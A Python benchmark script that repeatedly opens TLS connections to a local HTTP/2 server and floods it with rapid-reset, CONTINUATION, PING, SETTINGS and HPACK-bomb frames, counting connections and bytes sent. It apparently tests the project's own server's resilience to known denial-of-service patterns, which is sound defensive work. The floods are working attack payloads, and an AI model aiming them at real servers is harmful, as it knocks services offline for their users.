#!/usr/bin/env python3
"""One attacker of HTTP/2 over TLS: connects, floods until it is thrown out, and begins anew, until it is ended.
At the end: {"begun": connections, "bytes": sent}. usage: bench/h2_flood.py PORT reset|continuation|ping|settings|bomb"""
import json
import pathlib
import signal
import socket
import ssl
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "tests/e2e"))
from http2_frames import (CANCEL, CONTINUATION, GET, HEADERS, PING, PREFACE, RST_STREAM, block, frame, headers,  # noqa: E402
                          settings, text, u32)

LIST = [(n, v if n != ":scheme" else "https") for n, v in GET]
FLOODS = {
    "reset": b"".join(headers(1 + 2 * i, LIST) + frame(RST_STREAM, 0, 1 + 2 * i, u32(CANCEL)) for i in range(20000)),
    "continuation": frame(HEADERS, 1, 1, block(LIST)) +
    frame(CONTINUATION, 0, 1, b"\x00" + text("x") + text("y" * 1000)) * 5000,
    "ping": frame(PING, 0, 0, b"8" * 8) * 50000,
    "settings": settings() * 50000,
    "bomb": headers(1, block(LIST) + b"\x40" + text("x") + text("y" * 4000) + b"\xbe" * 12000),
}


def main():
    port, flood = int(sys.argv[1]), FLOODS[sys.argv[2]]
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    over, begun, sent, start = [], 0, 0, time.monotonic()
    signal.signal(signal.SIGTERM, lambda *_: over.append(1))
    print("READY", flush=True)
    while not over:
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as plain, context.wrap_socket(plain) as s:
                begun += 1
                s.settimeout(2)
                s.sendall(PREFACE + settings())
                for at in range(0, len(flood), 16384):
                    s.sendall(flood[at:at + 16384])
                    sent += len(flood[at:at + 16384])
                    if over:
                        break
        except OSError:
            pass
    print(json.dumps({"begun": begun, "bytes": sent, "ms": int((time.monotonic() - start) * 1000)}))


main()
